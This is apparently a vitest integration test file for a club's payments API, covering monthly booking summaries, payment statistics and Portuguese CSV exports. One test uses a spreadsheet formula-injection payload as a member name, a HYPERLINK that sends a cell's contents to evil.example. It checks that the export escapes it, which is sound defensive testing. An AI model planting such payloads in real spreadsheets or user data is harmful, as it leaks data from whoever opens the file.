import { parse } from "csv-parse/sync";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { GET as bookingsSummary } from "@/app/api/payments/bookings-summary/route";
import { GET as exportMonth } from "@/app/api/payments/export/route";
import { POST as generate } from "@/app/api/payments/generate/route";
import { PUT as markPaid } from "@/app/api/payments/mark-paid/route";
import { GET as statistics } from "@/app/api/payments/statistics/route";
import { GET as exportStatistics } from "@/app/api/payments/statistics/export/route";
import { clubInstant } from "@/lib/club-time";
import { db } from "@/server/db";
import { callRoute } from "../../../test/call-route";
import { createAnimal, createSlot, createUser, type TestUser } from "../../../test/db-helpers";
import { tokenFor } from "../../../test/sessions";

// The trainer's reading of the money: the month's lessons to bill, the period's figures and the
// accountant's CSV files.

let trainerToken: string;
beforeEach(async () => {
  process.env.ACE_FAKE_NOW = "2026-11-23T10:00:00Z";
  trainerToken = await tokenFor(await createUser({ role: "trainer" }));
});
afterEach(() => {
  delete process.env.ACE_FAKE_NOW;
});

async function lesson(member: TestUser, animalName: string, startsAt: Date) {
  const animal = (await db.animal.findFirst({ where: { userId: member.id, name: animalName } })) ?? (await createAnimal({ userId: member.id, name: animalName }));
  const slot = await createSlot({ startsAt });
  return db.booking.create({ data: { slotId: slot.id, animalId: animal.id, userId: member.id } });
}
const bill = async (member: TestUser, month: string, amount: number | string) =>
  (await callRoute(generate, { token: trainerToken, body: { user_id: member.id, month, amount } })).json.payment_id as number;
const pay = (paymentId: number, method?: string) => callRoute(markPaid, { method: "PUT", token: trainerToken, body: { payment_id: paymentId, method } });

describe("bookings summary of a month (integration)", () => {
  it("lists the members with lessons that club month, per animal, with what is already billed", async () => {
    const ana = await createUser({ name: "Ana Silva", email: "ana@ace.pt", hasFixedMonthlyFee: true, monthlyFeeAmount: "40" });
    const rui = await createUser({ name: "Rui Costa", email: "rui@ace.pt" });
    // 00:30 on 1 July in Lisbon is 23:30 UTC on 30 June: it belongs to July.
    await lesson(ana, "Bolt", new Date("2026-06-30T23:30:00Z"));
    await lesson(ana, "Bolt", clubInstant("2026-07-10", "18:00"));
    await lesson(ana, "Luna", clubInstant("2026-07-31", "23:00"));
    await lesson(rui, "Max", clubInstant("2026-07-15", "10:00"));
    await lesson(rui, "Max", clubInstant("2026-08-01", "00:15")); // August
    await bill(rui, "2026-07", 25);

    const response = await callRoute(bookingsSummary, { token: trainerToken, path: "/api/payments/bookings-summary?month=2026-07" });
    expect(response.json).toEqual({
      month: "2026-07",
      summary: [
        {
          user_id: ana.id, user_name: "Ana Silva", user_email: "ana@ace.pt", total_lessons: 3,
          animals: [{ animal_name: "Bolt", lesson_count: 2 }, { animal_name: "Luna", lesson_count: 1 }],
          has_fixed_monthly_fee: true, monthly_fee_amount: 40, payment: null, suggested_amount: 40, prorated: false,
        },
        {
          user_id: rui.id, user_name: "Rui Costa", user_email: "rui@ace.pt", total_lessons: 1,
          animals: [{ animal_name: "Max", lesson_count: 1 }],
          has_fixed_monthly_fee: false, monthly_fee_amount: 0, payment: { id: expect.any(Number), amount: 25, status: "pending" },
          suggested_amount: null, prorated: false,
        },
      ],
    });
    const empty = await callRoute(bookingsSummary, { token: trainerToken, path: "/api/payments/bookings-summary?month=2026-09" });
    expect(empty.json).toEqual({ month: "2026-09", summary: [] });
  });
});

describe("payment statistics (integration)", () => {
  it("answers every month of the range, zeros included, the totals and the average per month", async () => {
    const ana = await createUser();
    const rui = await createUser();
    await pay(await bill(ana, "2026-09", "40.10"), "cash");
    await bill(rui, "2026-09", "35.20");
    await pay(await bill(ana, "2026-11", "40.10"), "mbway");
    await bill(ana, "2026-12", 99); // outside the range

    const response = await callRoute(statistics, { token: trainerToken, path: "/api/payments/statistics?start_month=2026-09&end_month=2026-11" });
    expect(response.json).toEqual({
      start_month: "2026-09",
      end_month: "2026-11",
      months: [
        { month: "2026-09", total_payments: 2, pending_payments: 1, paid_payments: 1, total_amount: 75.3, pending_amount: 35.2, paid_amount: 40.1 },
        { month: "2026-10", total_payments: 0, pending_payments: 0, paid_payments: 0, total_amount: 0, pending_amount: 0, paid_amount: 0 },
        { month: "2026-11", total_payments: 1, pending_payments: 0, paid_payments: 1, total_amount: 40.1, pending_amount: 0, paid_amount: 40.1 },
      ],
      totals: { total_payments: 3, pending_payments: 1, paid_payments: 2, total_amount: 115.4, pending_amount: 35.2, paid_amount: 80.2 },
      average_payment: 38.47,
    });
  });

  it.each([
    ["", "Selecione o período completo"],
    ["?start_month=2026-01", "Selecione o período completo"],
    ["?start_month=2026-05&end_month=2026-01", "O mês inicial tem de ser anterior ou igual ao mês final."],
    ["?start_month=2020-01&end_month=2025-01", "O período não pode exceder 60 meses."],
    ["?start_month=2026-00&end_month=2026-01", "Mês inválido: use o formato AAAA-MM."],
  ])("refuses the range %s", async (query, message) => {
    const response = await callRoute(statistics, { token: trainerToken, path: `/api/payments/statistics${query}` });
    expect(response.status).toBe(400);
    expect(response.json).toEqual({ error: message });
  });

  it("accepts 60 months", async () => {
    const response = await callRoute(statistics, { token: trainerToken, path: "/api/payments/statistics?start_month=2021-12&end_month=2026-11" });
    expect(response.json.months).toHaveLength(60);
    expect(response.json.average_payment).toBe(0);
  });
});

describe("CSV exports for the accountant (integration)", () => {
  /** Downloads as a spreadsheet would: the raw bytes, which must start with UTF-8's BOM. */
  const download = async (handler: typeof exportMonth, path: string) => {
    const response = await handler(new Request(`http://localhost:3000${path}`, { headers: { authorization: `Bearer ${trainerToken}` } }), {
      params: Promise.resolve({}),
    });
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder("utf-8").decode(bytes); // drops the BOM
    return parse(text, { delimiter: ";", relax_column_count: true }) as string[][];
  };

  it("exports a month's payments with decimal commas, Portuguese dates and labels", async () => {
    const ana = await createUser({ name: "Ana Sá; \"Nana\"", email: "ana@ace.pt" });
    const rui = await createUser({ name: "Rui Costa", email: "rui@ace.pt" });
    await pay(await bill(ana, "2026-11", "1234.5"), "mbway");
    await bill(rui, "2026-11", 30);
    const rows = await download(exportMonth, "/api/payments/export?month=2026-11");
    expect(rows).toEqual([
      ["Documento interno, sem valor fiscal"],
      ["Mês", "Aluno", "Email", "Valor (€)", "Estado", "Data de pagamento", "Método", "Nota"],
      ["novembro de 2026", "Ana Sá; \"Nana\"", "ana@ace.pt", "1234,50", "Pago", "23/11/2026", "MB WAY", ""],
      ["novembro de 2026", "Rui Costa", "rui@ace.pt", "30,00", "Pendente", "", "", ""],
    ]);
    expect(rows.flat().join(" ")).not.toMatch(/fatura|recibo/i);
  });

  it("writes a member's name or note that a spreadsheet would run as a formula as text, amounts still as numbers", async () => {
    const hyperlink = '=HYPERLINK("https://evil.example/?x="&B3,"Ver")';
    const eve = await createUser({ name: hyperlink, email: "eve@ace.pt" });
    const paid = await callRoute(markPaid, {
      method: "PUT",
      token: trainerToken,
      body: { payment_id: await bill(eve, "2026-11", "12.5"), method: "cash", note: "@SUM(1+1)" },
    });
    expect(paid.status).toBe(200);
    const rows = await download(exportMonth, "/api/payments/export?month=2026-11");
    expect(rows[2]).toEqual(["novembro de 2026", `'${hyperlink}`, "eve@ace.pt", "12,50", "Pago", "23/11/2026", "Numerário", "'@SUM(1+1)"]);
  });

  it("exports the period's statistics with totals and the average", async () => {
    const ana = await createUser();
    await pay(await bill(ana, "2026-10", "20.5"));
    const rows = await download(exportStatistics, "/api/payments/statistics/export?start_month=2026-10&end_month=2026-11");
    expect(rows.slice(1)).toEqual([
      ["Mês", "Pagamentos", "Pagos", "Pendentes", "Valor total (€)", "Valor pago (€)", "Valor pendente (€)"],
      ["outubro de 2026", "1", "1", "0", "20,50", "20,50", "0,00"],
      ["novembro de 2026", "0", "0", "0", "0,00", "0,00", "0,00"],
      ["Total", "1", "1", "0", "20,50", "20,50", "0,00"],
      ["Pagamento médio por mês (€)", "10,25"],
    ]);
  });

  it("refuses a bad month before writing anything", async () => {
    const response = await callRoute(exportMonth, { token: trainerToken, path: "/api/payments/export?month=2026" });
    expect(response.status).toBe(400);
    expect(response.json).toEqual({ error: "Mês inválido: use o formato AAAA-MM." });
  });
});
